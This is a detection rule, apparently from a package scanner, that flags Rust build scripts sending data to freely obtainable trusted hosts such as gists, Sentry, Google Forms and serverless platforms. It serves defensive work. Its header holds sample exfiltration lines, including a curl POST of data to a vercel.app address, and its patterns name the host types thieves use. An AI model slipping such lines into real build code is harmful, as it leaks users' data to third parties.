/*
Functions, gists, crash reports and forms on hosts that every allow-list lets through: where a thief needs no server of his own.

```rust,match
fn main() { ureq::post("https://api.github.com/gists").send_string(&text).unwrap(); }
```
```rust,match
fn main() { post("https://o45115.ingest.de.sentry.io/api/1/envelope/"); }
```
```rust,match
fn main() { Command::new("curl").arg("-d").arg(d).arg("https://rust-api-jet.vercel.app/c").status(); }
```
```rust,clean
fn main() { let r = ureq::get("https://api.github.com/repos/x/y/releases/latest").call(); }
```
```rust,clean
fn main() { println!("cargo:warning=see https://my-crate-docs.pages.dev/build"); }
```
*/
rule trusted_host_sink : high {
  meta:
    id = "5c39caa2-e32d-46e1-9b7b-c0f821a25d47"
    description = "A host that anybody can have is spoken to"
    author = "Sandpit"
    date = "2026-11-25"
    status = "stable"
    scope = "build-script"
    behaviours = "trusted-host-sink"
    references = "RUSTSEC-2026-0175, incident 2026-05-22 TrapDoor, MAL-2026-16164, T1567"
  strings:
    $function = /https?:\/\/[a-z0-9.-]{1,80}\.(workers\.dev|vercel\.app|netlify\.app|pages\.dev|glitch\.me|repl\.co|onrender\.com|herokuapp\.com|fly\.dev|deno\.dev|web\.app)\b/
    $gist = "api.github.com/gists"
    $sentry = /\bingest(\.[a-z]{2})?\.sentry\.io\b/
    $database = /https?:\/\/[a-z0-9.-]{1,80}\.(firebaseio\.com|supabase\.co|appspot\.com)\b/
    $form = /docs\.google\.com\/forms\/d\/|script\.google\.com\/macros\//
    $post = /\b(ureq|reqwest|minreq|attohttpc)::(blocking::)?(post|put|Client)|\.(post|put)\s?\(\s?[&"]/
    $tool = /Command::new\s?\(\s?"(curl|wget)(\.exe)?"/
    $socket = /\bTcpStream::connect/
  condition:
    any of ($gist, $sentry, $form) or (any of ($function, $database) and any of ($post, $tool, $socket))
}
